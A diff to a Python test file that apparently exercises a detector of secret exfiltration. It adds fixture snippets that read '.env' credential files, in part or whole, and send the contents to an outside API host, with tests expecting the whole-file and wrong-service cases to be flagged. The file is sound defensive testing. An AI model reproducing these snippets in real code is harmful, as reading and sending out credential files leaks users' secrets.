@@ -141,6 +141,73 @@ def test_function_that_gives_any_key_gives_the_one_that_it_is_asked_for() -> Non
     assert checks(f"{KEY_OF}requests.post('https://api.ethscan.io', json=[{every}])\n") == {"python_environment_sent"}
 
 
+LINES = "import re, requests\nfrom pathlib import Path\nimport urllib.request as net\n\n"
+SENT = {
+    "in the address": "requests.get(f'https://api.parrotlab.example/v1?key={key}')\n",
+    "in a head": "requests.post('https://api.parrotlab.example/v1', headers={'x-key': key}, json={'n': 1})\n",
+    "in the head of a request": (
+        "net.urlopen(net.Request('https://api.parrotlab.example/v1', data=b'{}', headers={'x-key': key}))\n"
+    ),
+}
+LOOKED_FOR = {
+    "a line that begins with it": (
+        "def find():\n    for line in Path('.env').read_text().splitlines():\n        if line.startswith('PARROT_KEY='):\n"
+        "            return line.split('=', 1)[1]\n\nkey = find()\n"
+    ),
+    "one of two names": (
+        "def find():\n    for line in open('.env'):\n        name, _, value = line.partition('=')\n"
+        "        if name.strip() in ('PARROT_KEY', 'PARROT_TOKEN') and value:\n            return name, value\n"
+        "    return None, None\n\n_, key = find()\n"
+    ),
+    "all others are passed over": (
+        "key = ''\nfor raw in open('.env'):\n    line = raw.strip()\n    name, _, value = line.partition('=')\n"
+        "    if name != 'PARROT_KEY':\n        continue\n    key = value\n"
+    ),
+    "a name that is handed in": (
+        "def find(name):\n    for line in open('.env'):\n        if line.startswith(name + '='):\n"
+        "            return line.split('=', 1)[1]\n\nkey = find('PARROT_KEY')\n"
+    ),
+    "a name that stood for it before": (
+        "import os\n\ndef find():\n    for name in ('PARROT_KEY', 'PARROT_TOKEN'):\n        if os.environ.get(name):\n"
+        "            return name, os.environ[name]\n    for line in open('.env'):\n        name, _, value = line.partition('=')\n"
+        "        if name == 'PARROT_KEY':\n            return name, value\n\nname, key = find()\n"
+    ),
+    "a comprehension": "key = next(each.split('=')[1] for each in open('.env') if each.startswith('PARROT_KEY='))\n",
+    "a regular expression": "key = re.search(r'^PARROT_KEY=(.*)$', Path('.env').read_text(), re.M).group(1)\n",
+    "a folder of its own": (
+        "key = ''\nfor line in (Path.home() / '.config' / 'parrot' / '.env').open():\n"
+        "    if line.startswith('PARROT_KEY='):\n        key = line.split('=', 1)[1]\n"
+    ),
+}
+TAKEN_WHOLE = {
+    "the text": "key = open('.env').read()\n",
+    "its lines": "key = ';'.join(open('.env').read().splitlines())\n",
+    "a text that has the name": "text = open('.env').read()\nif 'PARROT_KEY' in text:\n    key = text\n",
+    "a text that begins with it": "text = open('.env').read()\nif text.startswith('PARROT_KEY='):\n    key = text\n",
+    "every value": (
+        "found = []\nfor line in open('.env'):\n    name, _, value = line.partition('=')\n    if name:\n"
+        "        found.append(value)\nkey = ','.join(found)\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("sent", SENT.values(), ids=SENT)
+@pytest.mark.parametrize("looked_for", LOOKED_FOR.values(), ids=LOOKED_FOR)
+def test_key_that_is_looked_for_by_its_name_is_no_file_of_keys(looked_for: str, sent: str) -> None:
+    assert checks(LINES + looked_for + sent) == set()
+
+
+@pytest.mark.parametrize("sent", SENT.values(), ids=SENT)
+@pytest.mark.parametrize("taken", TAKEN_WHOLE.values(), ids=TAKEN_WHOLE)
+def test_file_of_keys_is_a_secret__wherever_it_is_sent(taken: str, sent: str) -> None:
+    assert checks(LINES + taken + sent) == {"python_secret_sent"}
+
+
+def test_key_of_one_service_that_is_looked_for_in_a_file_goes_to_no_other() -> None:
+    looked_for = LOOKED_FOR["a line that begins with it"].replace("PARROT_KEY", "OPENAI_API_KEY")
+    assert checks(LINES + looked_for + SENT["in a head"]) == {"python_key_sent_elsewhere"}
+
+
 def test_client_of_several_services_hands_each_its_own_key() -> None:
     client = (
         "import os, requests\ne = os.environ\n\ndef api(url, token, more=None):\n"
